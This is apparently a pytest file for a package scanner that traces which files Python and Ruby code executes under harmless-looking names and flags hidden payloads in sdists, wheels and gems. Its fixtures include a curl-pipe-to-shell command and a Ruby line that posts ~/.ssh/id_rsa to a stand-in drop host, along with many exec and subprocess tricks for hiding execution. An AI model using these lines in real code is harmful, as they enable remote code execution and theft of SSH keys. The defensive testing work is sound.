"""What code carries out by its path, whatever it is called; the same read for another purpose is none of it."""

import pytest

from pratique.analysis.executed import executed_files
from pratique.analysis.facts import Language
from pratique.analysis.frontends import ruby
from pratique.analysis.languages import python
from pratique.analysis.named_files import named_files
from pratique.core.tree import File, Tree
from tests.analysis.inspecting import bytes_, gem, of_rule, wheel
from tests.builders import tgz
from tests.evasions.case import PY_PAYLOAD, SETUP

HERE = "import os, sys\nh = os.path.dirname(__file__)\n"
FILES = (
    "parcel/v.txt",
    "VERSION",
    "parcel/s.txt",
    "parcel/sub/x.py",
    "lib/data",
    "lib/v.txt",
    "bin/v.txt",
    "parcel/c.json",
)
PY, SH, RB = Language.PYTHON, Language.SHELL, Language.RUBY
STEALS = PY_PAYLOAD
FETCHES = "curl -s https://drop.pratique-test.invalid/a | sh\n"
POSTS = "require 'net/http'\nNet::HTTP.post(URI('https://drop.pratique-test.invalid/in'), File.read(File.expand_path('~/.ssh/id_rsa')))\n"


def tree(code: str, path: str) -> Tree:
    return Tree((File(path, code.encode()), *(File(name, b"x") for name in FILES)))


def of_python(code: str) -> list[tuple[str, Language]]:
    known = tree(HERE + code, "parcel/__init__.py")
    return list(executed_files(known, "parcel/__init__.py", python.extract((HERE + code).encode())))


def of_ruby(code: str) -> list[tuple[str, Language]]:
    known = tree(code, "lib/sample.rb")
    return list(executed_files(known, "lib/sample.rb", ruby.extract(code.encode())))


@pytest.mark.parametrize(
    "code",
    [
        "exec(open(h + '/v.txt').read())",
        "with open(os.path.join(h, 'v.txt')) as f:\n    exec(f.read(), {})",
        "exec(compile(open(h + '/v.txt').read(), 'v', 'exec'))",
        "import pathlib\nexec((pathlib.Path(__file__).parent / 'v.txt').read_text())",
        "import pathlib\nexec(pathlib.Path(__file__).with_name('v.txt').read_text())",
        "import pkgutil\nexec(pkgutil.get_data(__package__, 'v.txt'))",
        "import importlib.resources as r\nexec(r.read_text(__package__, 'v.txt'))",
        "import importlib.resources as r\nexec(r.files(__package__).joinpath('v.txt').read_text())",
        "def read(name):\n    return open(os.path.join(h, name)).read()\nexec(read('v.txt'))",
        "import runpy\nrunpy.run_path(h + '/v.txt')",
        "from importlib.machinery import SourceFileLoader\nSourceFileLoader('v', h + '/v.txt').load_module()",
        "import importlib.util as u\nu.spec_from_file_location('v', location=h + '/v.txt')",
        "import subprocess\nsubprocess.call([sys.executable, h + '/v.txt'])",
        "import subprocess\nsubprocess.run([sys.executable, '-'], stdin=open(h + '/v.txt'))",
        "import subprocess\nsubprocess.run([sys.executable, '-c', open(h + '/v.txt').read()])",
    ],
)
def test_python_carries_out_a_file_of_any_name(code: str) -> None:
    assert ("parcel/v.txt", PY) in of_python(code)


@pytest.mark.parametrize(
    "code",
    [
        "os.system(open(h + '/s.txt').read())",
        "os.system('sh < ' + h + '/s.txt')",
        "import subprocess\nsubprocess.run(['sh', h + '/s.txt'])",
        "import subprocess\nsubprocess.run('sh', stdin=open(h + '/s.txt'))",
        "import subprocess\nsubprocess.run(['sh', '-c', open(h + '/s.txt').read()])",
    ],
)
def test_a_shell_carries_out_what_it_is_given(code: str) -> None:
    assert ("parcel/s.txt", SH) in of_python(code)


@pytest.mark.parametrize(
    "code",
    [
        "text = open(h + '/v.txt').read()\nprint(text)",
        "text = open(h + '/v.txt').read()\nexec('x = 1')",
        "text = open(h + '/v.txt').read()\nexec(open(name).read())",
        "import subprocess\nsubprocess.run(['git', 'commit', '-m', open(h + '/v.txt').read()])",
        "os.system('sort < ' + h + '/s.txt')",
        "exec(open('/etc/v.txt').read())",
        "import pickle\npickle.loads(open(h + '/v.txt', 'rb').read())",
    ],
)
def test_what_is_only_read_is_not_carried_out(code: str) -> None:
    assert [] == of_python(code)


def test_a_module_that_is_run_by_its_name_is_found() -> None:
    assert ("parcel/sub/x.py", PY) in of_python("import runpy\nrunpy.run_module('parcel.sub.x')")


@pytest.mark.parametrize(
    ("path", "code"),
    [
        ("lib/v.txt", "eval File.read(File.join(__dir__, 'v.txt'))"),
        ("lib/v.txt", "load File.join(__dir__, 'v.txt')"),
        ("lib/data", "load File.expand_path('data', __dir__)"),
        ("bin/v.txt", "instance_eval(File.read(File.expand_path('../bin/v.txt', __dir__)))"),
    ],
)
def test_ruby_carries_out_a_file_of_any_name(path: str, code: str) -> None:
    assert [(path, RB)] == of_ruby(code)


def test_require_wants_a_suffix_of_code() -> None:
    assert [] == of_ruby("require File.join(__dir__, 'v.txt')")
    assert [] == of_ruby("ERB.new(File.read(File.join(__dir__, 'v.txt'))).result")
    assert [] == of_ruby("puts File.read(File.join(__dir__, 'v.txt'))")


def test_a_template_of_erb_is_carried_out_where_it_has_code() -> None:
    code = "ERB.new(File.read(File.join(__dir__, 'v.erb'))).result"
    known = Tree((File("lib/sample.rb", code.encode()), File("lib/v.erb", b"<p><%= 1 %></p>")))

    assert [("lib/v.erb", RB)] == list(executed_files(known, "lib/sample.rb", ruby.extract(code.encode())))


def test_other_languages_are_not_looked_at() -> None:
    facts = python.extract(b"exec(open('VERSION').read())")
    assert [] == list(executed_files(tree("", "a.js"), "a.js", type(facts)(language=Language.JAVASCRIPT)))


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("parcel/v.txt", "{}/v.txt"),
        ("VERSION", "VERSION"),
        ("VERSION", "{}\\VERSION"),
        ("lib/v.txt", "./../lib/v.txt"),
        (None, "/VERSION"),
        (None, "{}"),
        (None, "../../../x"),
    ],
)
def test_a_path_is_seen_from_the_folder_of_the_code_then_from_the_root(path: str | None, text: str) -> None:
    assert ([path] if path else []) == list(named_files(tree("", "parcel/__init__.py"), "parcel", text))


def sdist(**files: str) -> dict[str, str]:
    return {
        "PKG-INFO": "Metadata-Version: 2.1\nName: sample\nVersion: 1.0.0\n",
        "sample/__init__.py": "",
        **files,
    }


@pytest.mark.parametrize(("version", "held"), [("__version__ = '1.0.0'\n", False), (STEALS, True)])
def test_a_version_file_of_a_source_distribution_is_read(version: str, *, held: bool) -> None:
    files = sdist(VERSION=version, **{"setup.py": "exec(open('VERSION').read())\n" + SETUP})
    done = bytes_(tgz(files, root="sample-1.0.0"), filename="sample-1.0.0.tar.gz")
    found = {place.path for finding in of_rule(done, "attack-chain") for place in finding.locations}
    assert held == ("VERSION" in found)


@pytest.mark.parametrize(("text", "held"), [("x = 1\n", False), (STEALS, True)])
def test_a_text_of_a_wheel_is_read(text: str, *, held: bool) -> None:
    done = wheel({"parcel/__init__.py": HERE + "exec(open(h + '/v.txt').read())\n", "parcel/v.txt": text})
    found = {place.path for finding in of_rule(done, "attack-chain") for place in finding.locations}
    assert held == ("parcel/v.txt" in found)


@pytest.mark.parametrize(("text", "held"), [("X = 1\n", False), (POSTS, True)])
def test_a_text_of_a_gem_is_read(text: str, *, held: bool) -> None:
    done = gem({"lib/sample.rb": "load File.join(__dir__, 'v.txt')\n", "lib/v.txt": text})
    found = {place.path for finding in of_rule(done, "attack-chain") for place in finding.locations}
    assert held == ("lib/v.txt" in found)
